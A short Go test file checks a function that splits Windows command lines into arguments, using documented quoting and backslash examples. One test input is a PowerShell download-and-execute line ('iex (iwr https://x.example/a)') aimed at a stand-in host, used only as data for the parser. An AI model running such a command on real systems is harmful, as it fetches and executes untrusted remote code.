package assess

import (
	"slices"
	"testing"
)

// TestWindowsArgv checks the C runtime's rules for splitting a command
// line, with the examples of Microsoft's documentation of
// CommandLineToArgvW and of "Parsing C command-line arguments".
func TestWindowsArgv(t *testing.T) {
	for _, c := range []struct {
		line string
		want []string
	}{
		{`"abc" d e`, []string{"abc", "d", "e"}},
		{`a\\b d"e f"g h`, []string{`a\\b`, "de fg", "h"}},
		{`a\\\"b c d`, []string{`a\"b`, "c", "d"}},
		{`a\\\\"b c" d e`, []string{`a\\b c`, "d", "e"}},
		{`a"b"" c d`, []string{`ab" c d`}},
		{`-c iex (iwr https://x.example/a)`, []string{"-c", "iex", "(iwr", "https://x.example/a)"}},
		{"  \t ", nil},
		{`""`, []string{""}},
		{`x\`, []string{`x\`}},
		{`"unterminated arg`, []string{"unterminated arg"}},
	} {
		if got := windowsArgv(c.line); !slices.Equal(got, c.want) {
			t.Errorf("windowsArgv(%q) = %q, want %q", c.line, got, c.want)
		}
	}
}
